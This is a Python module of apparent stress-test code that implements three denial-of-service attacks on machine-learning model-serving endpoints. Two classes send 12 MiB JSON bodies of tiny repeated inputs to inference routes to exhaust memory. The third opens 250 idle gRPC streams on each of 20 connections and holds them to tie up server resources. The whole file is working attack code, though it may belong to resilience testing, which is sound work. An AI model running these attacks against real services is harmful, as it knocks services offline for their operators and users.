"""Requests of few bytes that ask for much memory, and calls that only take up room."""

from __future__ import annotations

import random
import time

from attacks import HEALTH, HOLD_SECONDS, PREDICT, Attack, model
from messages import MIB, GrpcConnection

BODY = 12 * MIB
STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"
# The calls of a connection that are open at the same time.
STREAMS = 250


class ManyInputs(Attack):
    """12 MB of inputs of one number each, for a v2 request."""

    bodies: tuple[bytes, ...] = ()

    def once(self) -> str:
        if not self.bodies:
            data = (b"[1]", b"[[1]]", b"[]", b'["a"]')
            inputs = [
                b'{"name":"x","datatype":"%s","shape":[1],"data":%s}'
                % (b"BYTES" if b"a" in one else b"FP32", one)
                for one in data
            ]
            self.bodies = tuple(
                b'{"inputs":[' + (one + b",") * (BODY // len(one)) + one + b"]}" for one in inputs
            )
        return self.post("/v2/models/half_plus_two/infer", random.choice(self.bodies))


class SmallParts(Attack):
    """12 MB of empty rows, of lists of one number, and of objects, in every format of JSON."""

    bodies: tuple[bytes, ...] = ()

    def once(self) -> str:
        parts = (b"{},", b"[1],", b"[[]],", b'{"a":1},', b'"",', b"null,")
        self.bodies = self.bodies or tuple(part * (BODY // len(part)) + b"1" for part in parts)
        member = random.choice([b"instances", b"inputs", b"dataframe_records"])
        path = random.choice([model("half_plus_two"), "/invocations", "/"])
        return self.post(path, b'{"%s":[%s]}' % (member, random.choice(self.bodies)))


class SilentCalls(Attack):
    """250 calls on each of 20 connections, none of which sends a message."""

    def once(self) -> str:
        connections = []
        try:
            for _ in range(20):
                connection = GrpcConnection(self.grpc, timeout=10)
                connections.append(connection)
                connection.__enter__()
                for _ in range(STREAMS):
                    connection.open_stream(random.choice([STREAM, PREDICT, HEALTH]))
            time.sleep(HOLD_SECONDS)
        finally:
            for connection in connections:
                connection.__exit__(None, None, None)
        return "left"


# The pause in seconds after each request.
MEMORY_ATTACKS: dict[type[Attack], float] = {ManyInputs: 2, SmallParts: 1, SilentCalls: 1}
